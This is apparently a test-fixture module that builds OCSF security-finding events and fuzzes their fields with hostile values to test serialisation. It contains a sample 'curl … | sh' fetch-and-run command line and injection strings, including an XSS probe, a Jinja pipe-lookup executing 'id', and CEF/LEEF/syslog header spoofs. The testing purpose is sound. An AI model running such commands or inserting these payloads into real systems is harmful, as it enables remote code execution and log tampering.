# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""OCSF events of every class that is exported, and the same with hostile values in every field."""

from __future__ import annotations

import functools
import random
import typing as t

import hypothesis
from ansible_collections.bulwark.servers.plugins.plugin_utils import catalogue
from ansible_collections.bulwark.servers.plugins.plugin_utils.ocsf import (
    events,
    observables,
    scan_activity,
    vulnerabilities,
)
from ansible_collections.bulwark.servers.plugins.plugin_utils.ocsf.compliance import FAIL, Compliance
from hypothesis import strategies as st

NOW = 1_795_990_000.5
HOST = events.Device(
    name="web1.example.org",
    ip="192.0.2.7",
    domain="example.org",
    is_virtual=True,
    system="Linux",
    os_name="Debian",
    os_version="13.2",
    kernel="6.18.1",
)
_DIGEST = {"algorithm_id": 3, "algorithm": "SHA-256", "value": "ab" * 32}
_FILE = {"name": "backup", "path": "/etc/cron.d/backup", "type_id": 1, "size": 512, "hashes": [_DIGEST]}
_EVIDENCES: tuple[dict[str, t.Any], ...] = (
    {"file": {**_FILE, "created_time": 1_700_000_000_000, "modified_time": 1_700_000_000_000}},
    {
        "process": {
            "pid": 4711,
            "name": "bash",
            "cmd_line": "bash -c 'curl http://198.51.100.9/x | sh'",
            "file": {**_FILE, "name": "bash", "path": "/usr/bin/bash"},
            "user": {"name": "root", "uid": "0"},
        },
        "src_endpoint": {"ip": "203.0.113.5", "port": 51_234, "hostname": "far.example.net"},
        "dst_endpoint": {"ip": "2001:db8::1", "port": 22},
        "connection_info": {"direction_id": 1, "protocol_name": "tcp"},
        "url": {"url_string": "http://198.51.100.9/x"},
    },
    {"data": {"before": {"mode": "0644"}, "after": {"mode": "4755"}}},
)
# What programs that read lines, delimiters or markup could take for their own.
_PIECES = (
    *("\n", "\r", "\t", "|", "=", "^", "\\", '"', "'", "[", "]", "{", "}", "\x00", "\x1b[31m", "\x7f", "\x85"),
    *("\u2028", "\u2029", "\u202e", "\u200f", "\ufeff", "\ud800", "\udc80", "\udfff", "\U0001f600", "e\u0301"),
    *(" ", "  ", "\\n", "\\\\", "\\=", "\\|", " rt=1 ", "CEF:0|a|b|", "LEEF:2.0|a|b|c|d|^|", "^src=10.0.0.1", "<14>1 "),
    *(
        "<script>alert(1)</script>",
        "{{ lookup('pipe', 'id') }}",
        "{% raw %}",
        "&amp;",
        "%s",
        "${x}",
        "]]>",
        "..",
        "…",
        "^~`#%!@;",
    ),
)
_LONG = st.sampled_from([40, 100, 1_023, 1_024, 4_001]).flatmap(
    lambda length: st.sampled_from(["x", "é", "\\", "=", "|"]).map(lambda char: char * length)
)
TEXTS = st.one_of(
    st.lists(st.sampled_from(_PIECES), min_size=1, max_size=8).map("".join),
    st.text(st.characters(exclude_categories=()), max_size=30),
    _LONG,
)
NUMBERS = st.sampled_from([0, 1, -1, 2**31, 2**53 + 1, 2**63 - 1])
# Before 2001 a time in milliseconds has 12 digits, after 2286 it has 14, in the year 9999 it has 15.
TIMES = st.sampled_from([0, 999_999_999_999, 1_795_990_000_500, 10_000_000_000_000, 253_402_300_799_999])


@functools.cache
def plain() -> tuple[dict[str, t.Any], ...]:
    """Return an event of each kind, as this collection makes it."""
    known = catalogue.load()
    alerts = {kind: next(alert for alert in known if alert.kind == kind) for kind in catalogue.KINDS}

    def finding(kind: str, **about: t.Any) -> dict[str, t.Any]:
        detection = {
            "alert": alerts[kind].id,
            "subject": "/etc/cron.d/backup",
            "scope": "files",
            "severity": "high",
            "message": "The file was changed.",
            "evidences": [dict(item) for item in _EVIDENCES],
            "disposition": "blocked" if kind == "alert" else None,
        }
        event = events.finding(detection, known, HOST, NOW, **about)
        event = events.with_status(event, "open", "update", NOW, "It was seen again.")
        event["unmapped"] |= {"change": "severity changed", "before_severity": "low", "run": "20261129T222400Z-1"}
        return event

    return (
        finding("alert"),
        finding("recommendation", compliance=_compliance()),
        finding("recommendation"),
        finding("vulnerability", vulnerabilities=_vulnerabilities(3)),
        finding("vulnerability"),
        _scan(),
    )


def _compliance() -> Compliance:
    return Compliance("CIS Docker Benchmark 1.8.0", ("4.1", "4.2"), "A user is set", FAIL, "No user.", {"failed": 1})


def _vulnerabilities(number: int) -> vulnerabilities.Vulnerabilities:
    """Return so many vulnerabilities of one package."""
    return vulnerabilities.Vulnerabilities(
        tuple(
            vulnerabilities.Vulnerability(
                id=f"CVE-2026-{1_000 + position}",
                packages=(vulnerabilities.Affected("openssl", "3.5.1-1", "3.5.4-1", purl="pkg:deb/debian/openssl"),),
                title="A buffer overflow",
                severity="high",
                why="It can be exploited from the network.",
                aliases=("DSA-6000-1",),
                cvss=(vulnerabilities.Cvss("3.1", 9.8, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"),),
                epss=vulnerabilities.Epss(0.5, 0.9, "2026-11-28"),
                is_exploited=position == 0,
                is_fixed=True,
            )
            for position in range(number)
        ),
        "Upgrade openssl to 3.5.4-1.",
    )


def large(evidences: int = 100, length: int = 1_000) -> dict[str, t.Any]:
    """Return a Detection Finding with so many evidences, each with a command line of so many characters."""
    event = dict(plain()[0])
    event["evidences"] = [{"process": {"pid": number + 1, "cmd_line": "x" * length}} for number in range(evidences)]
    return observables.with_observables(event)


def large_vulnerability(number: int = 2_000) -> dict[str, t.Any]:
    """Return a Vulnerability Finding about so many vulnerabilities, of which the most serious are in it in full."""
    known = _vulnerabilities(number)
    event = dict(plain()[3])
    event["vulnerabilities"] = known.to_ocsf((), NOW)
    event["unmapped"] = {**event["unmapped"], **known.unmapped()}
    return event


def large_scan(scopes: int = 90) -> dict[str, t.Any]:
    """Return a Scan Activity of a host on which two capabilities have so many scopes, none of them checked."""
    return _scan(scopes)


def _scan(scopes: int = 1) -> dict[str, t.Any]:
    def look(capability: str, status: str, number: int) -> scan_activity.Look:
        entry = {"status": status, "skipped_count": 2, "examined": 7, "reason": "not reached: " + "x" * 300}
        return scan_activity.Look(
            capability, status, [{**entry, "scope": f"scope {position}"} for position in range(number)], NOW - 86_400
        )

    looks = [
        look("file_integrity", "checked", 1),
        look("audit", "not_checked", scopes),
        look("memory_scan", "partial", scopes),
    ]
    scan = scan_activity.Scan("20261129T222400Z-1", "bulwark.servers.scan", NOW - 60)
    return scan_activity.event(scan, HOST.name, looks, NOW)


@st.composite
def hostile(draw: st.DrawFn) -> dict[str, t.Any]:
    """Draw an event of any kind, some or all of whose texts, numbers and times are others."""
    event = draw(st.sampled_from(plain()))
    choices = draw(st.lists(TEXTS, min_size=1, max_size=6))
    numbers = draw(st.lists(NUMBERS, min_size=1, max_size=3))
    times = draw(st.lists(TIMES, min_size=1, max_size=3))
    share = draw(st.sampled_from([0.1, 0.5, 1.0]))
    # A draw for each of a hundred leaves would take hypothesis a hundred times as long.
    chance = random.Random(draw(st.integers(0, 2**32)))  # noqa: S311  (no secret, but the choice of test values)

    def other(value: t.Any, key: str) -> t.Any:
        if isinstance(value, dict):
            return {name: other(member, name) for name, member in value.items()}
        if isinstance(value, list):
            return [other(item, key) for item in value]
        if key == "class_uid" or chance.random() > share:
            return value
        if isinstance(value, str):
            return chance.choice(choices)
        if isinstance(value, int) and not isinstance(value, bool):
            return chance.choice(times if key.endswith("time") else numbers)
        return value

    return t.cast("dict[str, t.Any]", other(event, ""))


@functools.cache
def many(number: int = 2_000) -> tuple[dict[str, t.Any], ...]:
    """Return so many different hostile events, the same for each run, a few with a line of 500 kB."""
    drawn: dict[str, dict[str, t.Any]] = {}

    # Hypothesis draws some events again.
    @hypothesis.settings(
        max_examples=number + number // 4,
        derandomize=True,
        database=None,
        phases=[hypothesis.Phase.generate],
        suppress_health_check=list(hypothesis.HealthCheck),
    )
    @hypothesis.given(hostile())
    def draw(event: dict[str, t.Any]) -> None:
        if len(drawn) < number:
            drawn.setdefault(repr(event), event)

    draw()
    assert len(drawn) == number, f"hypothesis drew only {len(drawn)} different events"
    events_drawn = tuple(drawn.values())
    for event in events_drawn[:: number // 5]:
        event["message"] = "x=|^\\" * 100_000
    return events_drawn
